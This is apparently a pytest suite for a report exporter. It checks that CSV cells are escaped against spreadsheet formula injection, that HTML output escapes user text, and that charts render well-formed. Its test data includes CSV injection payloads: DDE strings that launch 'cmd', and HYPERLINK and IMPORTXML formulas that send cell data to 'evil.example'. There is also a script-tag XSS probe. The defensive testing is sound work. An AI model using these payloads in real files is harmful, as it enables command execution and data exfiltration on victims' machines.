"""The forms of a report: what stands in a cell, and that all of them say the same."""

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree

import pytest

from procflow.records.reports.forms import register_exporters
from procflow.records.reports.forms.cells import spoken
from procflow.records.reports.forms.csv_form import csv_text
from procflow.records.reports.forms.html_form import html
from procflow.records.reports.sheet import Chart, Column, Figure, Named, Remark, Sheet, Table


def sheet(*rows: tuple[Any, ...], charts: tuple[Chart, ...] = (), kind: str = "text") -> Sheet:
    columns = (
        Column("what", {"da": "Hvad", "en": "What"}, kind),
        Column("n", {"da": "Antal", "en": "Number"}, "signed"),
    )
    table = Table("things", {"da": "Ting", "en": "Things"}, columns, rows, show=3)
    return Sheet(
        "made_up", {"da": "Prøve <b>", "en": "Made <b>up"}, date(2026, 3, 1), date(2026, 3, 31),
        datetime(2026, 3, 31, 22, tzinfo=UTC), "Europe/Copenhagen", True, (table,), charts=charts,
    )  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+45 71",
        "-x",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\nx",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "=cmd|' /C calc'!A0",
    ],
)
def test_no_text_in_csv_is_a_formula(text: str) -> None:
    told = csv_text(sheet((text, 1), (Named(text, {"en": "x"}), 2)), "en")
    for row in list(csv.reader(io.StringIO(told, newline="")))[1:]:
        assert row[0] == "'" + text


#: What somebody may write so that a spreadsheet runs it: at the beginning, behind what separates cells elsewhere, behind quotes.
FORMULAS = [
    *(f"{sign}1+1" for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", "==", "=-", '"=', "'=")),
    "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example?",A1:B9),"//a")', "+DDE(\"cmd\";\"/C calc\";\"1\")",
    "a;=1+1", "a;b;+1", 'a;"=1+1', 'a;""=1+1', "a;'=1", "a;-1+1", "a;@x", "a\n=1+1", "a\r\n=1+1", "a\t=1+1", "a;\0=1", "a;＝1", 'a";=1;"',
    ";=1", ";;=1", "a,=1;=2", 'x","=1;"=2', "a\n\"=1",
]  # fmt: skip


def test_no_text_is_a_formula_for_commas_or_for_semicolons_and_nothing_of_it_is_lost() -> None:
    assert len(FORMULAS) >= 30
    for text in FORMULAS:
        told = csv_text(sheet((text, 1), (f"x{text}", 2)), "en")
        (first, _), (second, _) = list(csv.reader(io.StringIO(told, newline="")))[1:]
        assert (first.replace("'", ""), second.replace("'", "")) == (
            text.replace("'", ""),
            f"x{text}".replace("'", ""),
        )
        for mark in ",;\t":
            for line in told.splitlines() if mark != "," else [told]:
                # where quotes are not seen, a line is a row
                for row in csv.reader(io.StringIO(line, newline=""), delimiter=mark):
                    for cell in row[:1] if mark == "," else row:
                        bare = cell.lstrip("\"'")
                        assert not re.match(r"[=+\-@＝＋－＠\t\r\n\0]", bare) or cell.startswith("'"), (
                            text,
                            mark,
                            cell,
                        )


def test_numbers_in_csv_stay_numbers_also_below_nothing() -> None:
    rows = ((None, Decimal("-1.0")), ("x", Decimal("0.25")), (timedelta(hours=3, minutes=53), -2), (True, 0))
    told = csv_text(sheet(*rows), "en")
    assert told == "what,n\r\n,-1\r\nx,0.25\r\n13980,-2\r\ntrue,0\r\n"


@pytest.mark.parametrize(
    ("value", "kind", "danish", "english"),
    [
        (None, "text", "–", "–"),
        (True, "text", "ja", "yes"),
        (1234567, "count", "1.234.567", "1,234,567"),
        (Decimal("0.789473"), "share", "78,9 %", "78.9 %"),
        (Decimal("-1"), "signed", "−1,0", "−1.0"),
        (Decimal("0.64"), "signed", "+0,6", "+0.6"),
        (Decimal("12500.5"), "money", "12.500,50", "12,500.50"),
        (timedelta(days=4, hours=1), "open", "97 t", "97 h"),
        (timedelta(days=4, hours=1), "span", "4 d 1 t", "4 d 1 h"),
        (datetime(2026, 3, 29, 1, 30, tzinfo=UTC), "instant", "2026-03-29 03:30", "2026-03-29 03:30"),
        (date(2026, 3, 29), "day", "2026-03-29", "2026-03-29"),
        (Named("x", {"da": "ja tak", "en": "please"}), "text", "ja tak", "please"),
    ],
)  # fmt: skip
def test_a_cell_in_words(value: Any, kind: str, danish: str, english: str) -> None:
    assert spoken(value, kind, "da", "Europe/Copenhagen") == danish
    assert spoken(value, kind, "en", "Europe/Copenhagen") == english


@pytest.mark.parametrize("name", ["cases", "deadlines", "queues", "lateness"])
def test_the_page_is_well_formed_and_every_drawing_has_a_name(month: Any, name: str) -> None:
    page = html(month.report(name, "2026-03-01", "2026-03-31"), "en")
    drawings = re.findall(r"<svg.*?</svg>", page, re.S)
    assert len(drawings) >= 2
    for drawing in drawings:
        ElementTree.fromstring(drawing)
    assert all('aria-label="' in d or 'aria-hidden="true"' in d for d in drawings)
    assert page.count("<table>") == page.count("</table>") > 0


def test_the_page_of_the_deadlines_stands_as_it_was_looked_at(month: Any, golden: Any) -> None:
    golden("deadlines.da.html", html(month.report("deadlines", "2026-03-01", "2026-03-31"), "da"))


def test_what_people_wrote_is_text_on_the_page() -> None:
    page = html(sheet(("<script>alert(1)</script>", 1)), "da")
    assert "<script" not in page and "&lt;script&gt;" in page and "Prøve &lt;b&gt;" in page


def test_a_long_table_is_cut_on_the_page_and_says_so() -> None:
    page = html(sheet(*((str(n), n) for n in range(9))), "en")
    assert "The first 3 of 9 rows" in page


@pytest.mark.parametrize("kind", ["stack", "share", "bars"])
def test_bars_of_nothing_and_of_one_row_can_be_drawn(kind: str) -> None:
    for rows in ((("a", 0),), (("a", 3), ("b", 0)), ()):
        page = html(sheet(*rows, charts=(Chart(kind, "things", {"en": "x"}, "what", ("n",)),)), "en")
        for drawing in re.findall(r"<svg.*?</svg>", page, re.S):
            ElementTree.fromstring(drawing)


def test_the_words_beside_a_bar_have_room_up_to_the_edge() -> None:
    rows = [("Kopier af en aflysning slettes hos hele salget", 3), ("Mammuttens mummemummemummemumm", 1)]
    page = html(sheet(*rows, charts=(Chart("bars", "things", {"en": "x"}, "what", ("n",)),)), "en")
    labels = re.findall(r'<text x="([0-9.]+)" y="[0-9.]+" text-anchor="end">([^<]+)</text>', page)
    assert len(labels) == 2
    for x, words in labels:
        assert float(x) >= 8 * len(words)  # eight of its units for a letter of 14


def test_figures_and_remarks_stand_on_top() -> None:
    one = Sheet(
        "x", {"en": "X"}, date(2026, 3, 1), date(2026, 3, 1), datetime(2026, 3, 1, 22, tzinfo=UTC), "UTC", False,
        sheet(("a", 1)).tables, (Figure("n", {"en": "Number"}, 3),), (), (Remark("conflict", {"en": "Two say otherwise"}),),
    )  # fmt: skip
    page = html(one, "en")
    assert "<dd>3</dd>" in page and "<strong>Conflict.</strong> Two say otherwise" in page
    assert "Not final" in page


def test_a_form_is_there_for_the_next_report_of_the_same_process() -> None:
    sheet_, forms_written = sheet(("a", 1)), []
    for _ in range(2):
        for name, form in register_exporters().items():
            form(sheet_, forms_written.append, "en")
            assert forms_written[-1], name
    assert forms_written[:4] == forms_written[4:]
